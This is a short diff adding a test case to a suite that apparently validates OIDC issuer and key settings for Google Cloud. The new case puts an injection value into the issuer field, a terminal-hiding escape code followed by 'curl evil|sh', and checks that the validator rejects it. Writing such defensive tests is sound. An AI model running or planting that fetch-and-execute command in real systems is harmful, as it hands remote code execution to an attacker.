@@ -154,6 +154,8 @@ suite('what Google must know', () => {
     const unread = await faultOf([registry('one', named)], [inside])
     assert.equal(unread.code, 'ISSUER_UNUSABLE')
     assert.match(unread.hint ?? '', /; or let Google have the keys themselves, .*: trust\.uploadKeys: Always$/)
+    const steering = { ...inside, issuer: 'https://oidc.example.com/\u001b[8m\ncurl evil|sh' }
+    assert.equal((await faultOf([registry('one', gcp)], [steering])).code, 'ISSUER_UNUSABLE')
     assert.equal((await faultOf([registry('one', gcp)], [{ ...inside, keys: [] }])).code, 'KEYS_UNUSABLE')
     assert.equal((await faultOf([registry('one', gcp)])).code, 'USAGE_INVALID')
   })
